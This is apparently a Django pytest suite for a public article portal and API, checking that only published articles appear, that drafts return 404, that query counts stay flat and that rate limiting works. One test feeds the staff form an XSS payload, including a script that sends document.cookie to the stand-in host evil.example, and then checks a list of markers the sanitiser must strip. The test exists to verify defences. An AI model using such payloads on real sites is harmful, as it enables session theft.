"""Articles on the public portal and the public API: published ones only, never drafts or unpublished ones; what staff
typed comes out stripped; the list costs the same number of queries whatever its length."""

from __future__ import annotations

import pytest
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from jianguan.articles import services
from jianguan.articles.models import Article


@pytest.fixture(autouse=True)
def _fresh_limits():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def public() -> Client:
    return Client()


@pytest.fixture
def articles(personas):  # type: ignore[no-untyped-def]
    """One article in each state."""
    lead = personas["lead"]

    def make(title: str, category: str = "notice") -> Article:
        return services.article_create(
            actor=lead, category=category, title=title, summary=f"{title}摘要", body=f"<p>{title}正文</p>"
        )

    published = services.article_publish(actor=lead, article=make("已发布的通知"))
    tip = services.article_publish(actor=lead, article=make("已发布的消费提示", "consumer_tip"))
    draft = make("草稿文章")
    unpublished = services.article_unpublish(
        actor=lead, article=services.article_publish(actor=lead, article=make("撤下的文章"))
    )
    return {"published": published, "tip": tip, "draft": draft, "unpublished": unpublished}


def test_the_public_list_shows_published_articles_only_newest_first(public, articles):
    response = public.get("/public/articles/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "已发布的通知" in html and "已发布的消费提示" in html
    assert html.index("已发布的消费提示") < html.index("已发布的通知")  # published later, listed first
    for hidden in ("草稿文章", "撤下的文章"):
        assert hidden not in html


def test_the_public_list_filters_by_category(public, articles):
    html = public.get("/public/articles/", {"category": "consumer_tip"}).content.decode()
    assert "已发布的消费提示" in html and "已发布的通知" not in html
    # An unknown category is refused with the reason, as every parameter that does not parse (lib/params.py).
    refused = public.get("/public/articles/", {"category": "nope"})
    assert refused.status_code == 400 and "参数 category 的取值“nope”无效" in refused.content.decode()


def test_a_published_article_is_shown_without_login(public, articles):
    response = public.get(f"/public/articles/{articles['published'].pk}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "已发布的通知" in html and "<p>已发布的通知正文</p>" in html and "已发布的通知摘要" in html


@pytest.mark.parametrize("state", ["draft", "unpublished"])
def test_drafts_and_unpublished_articles_are_not_found(public, articles, state):
    assert public.get(f"/public/articles/{articles[state].pk}/").status_code == 404
    assert public.get(f"/api/v1/public/articles/{articles[state].pk}").status_code == 404


def test_a_missing_article_is_not_found(public, db):
    assert public.get("/public/articles/999999/").status_code == 404
    response = public.get("/api/v1/public/articles/999999")
    assert response.status_code == 404 and response.json()["message"]


def test_an_article_disappears_once_unpublished_and_returns_when_republished(public, articles, personas):
    article = articles["published"]
    services.article_unpublish(actor=personas["admin"], article=article)
    assert public.get(f"/public/articles/{article.pk}/").status_code == 404
    assert "已发布的通知" not in public.get("/public/articles/").content.decode()
    services.article_publish(actor=personas["admin"], article=article)
    assert public.get(f"/public/articles/{article.pk}/").status_code == 200


def test_the_public_api_lists_published_articles_with_public_fields(public, articles):
    response = public.get("/api/v1/public/articles")
    assert response.status_code == 200
    data = response.json()
    assert data["count"] == 2
    assert [i["title"] for i in data["items"]] == ["已发布的消费提示", "已发布的通知"]
    assert set(data["items"][0]) == {
        "id",
        "category",
        "category_label",
        "title",
        "summary",
        "published_at",
        "updated_at",
    }
    assert data["items"][0]["category_label"] == "消费提示"
    only_tips = public.get("/api/v1/public/articles", {"category": "consumer_tip"}).json()
    assert [i["title"] for i in only_tips["items"]] == ["已发布的消费提示"]
    detail = public.get(f"/api/v1/public/articles/{articles['published'].pk}").json()
    assert detail["body"] == "<p>已发布的通知正文</p>"
    assert "author" not in detail and "status" not in detail


def test_an_xss_attempt_through_the_staff_form_comes_out_harmless(public, client_for):
    attack = (
        '<p onmouseover="alert(1)">家长须知</p><script>document.location="https://evil.example/?c="+document.cookie'
        '</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">点击</a>'
        '<iframe src="https://evil.example"></iframe><p style="position:fixed">样式</p>'
    )
    lead = client_for("lead")
    response = lead.post(
        "/articles/new/",
        {
            "category": "consumer_tip",
            "title": '<script>alert("标题")</script>',
            "summary": "<b>摘要</b>",
            "body": attack,
        },
    )
    assert response.status_code == 302
    article = Article.objects.get()
    lead.post(f"/articles/{article.pk}/publish/")
    html = public.get(f"/public/articles/{article.pk}/").content.decode()
    body = html[html.index('data-testid="article-body"') : html.index("</article>")]
    for bad in ("<script", "onmouseover", "onerror", "javascript:", "<iframe", "<img", "style=", "evil.example"):
        assert bad not in body, bad
    assert "<p>家长须知</p>" in body and "样式" in body
    # The title and summary are plain text, escaped wherever they appear.
    assert "&lt;script&gt;alert(&quot;标题&quot;)&lt;/script&gt;" in html and "&lt;b&gt;摘要&lt;/b&gt;" in html
    assert '<script>alert("标题")' not in html
    listing = public.get("/public/articles/").content.decode()
    assert "&lt;script&gt;" in listing and '<script>alert("标题")' not in listing
    api = public.get(f"/api/v1/public/articles/{article.pk}").json()
    assert "<script" not in api["body"] and "onerror" not in api["body"]


def _publish_many(lead, n: int) -> None:  # type: ignore[no-untyped-def]
    for i in range(n):
        article = services.article_create(actor=lead, category="notice", title=f"通知 {i}", body=f"<p>{i}</p>")
        services.article_publish(actor=lead, article=article)


def _queries(client: Client, url: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return len(ctx.captured_queries)


@pytest.mark.parametrize("url", ["/public/articles/", "/api/v1/public/articles?limit=50", "/public/"])
def test_the_public_lists_cost_the_same_queries_for_3_or_30_articles(public, personas, url):
    _publish_many(personas["lead"], 3)
    few = _queries(public, url)
    _publish_many(personas["lead"], 27)
    assert _queries(public, url) == few


def test_the_search_page_shows_the_three_latest_published_articles(public, articles, personas):
    lead = personas["lead"]
    newest = services.article_publish(
        actor=lead, article=services.article_create(actor=lead, category="case", title="最新案例", body="<p>x</p>")
    )
    html = public.get("/public/").content.decode()
    section = html[html.index('data-testid="latest-articles"') :]
    assert f"/public/articles/{newest.pk}/" in section and "已发布的消费提示" in section
    assert "已发布的通知" in section
    for hidden in ("草稿文章", "撤下的文章"):
        assert hidden not in section
    assert 'href="/public/articles/"' in html  # the header link


def test_the_article_pages_are_rate_limited(public, settings, articles):
    settings.JIANGUAN_PUBLIC_RATE_LIMIT = 2
    codes = [public.get("/public/articles/").status_code for _ in range(3)]
    assert codes == [200, 200, 429]
    response = public.get(f"/public/articles/{articles['published'].pk}/")
    assert response.status_code == 429 and "查询过于频繁" in response.content.decode()
    assert public.get("/api/v1/public/articles").status_code == 429
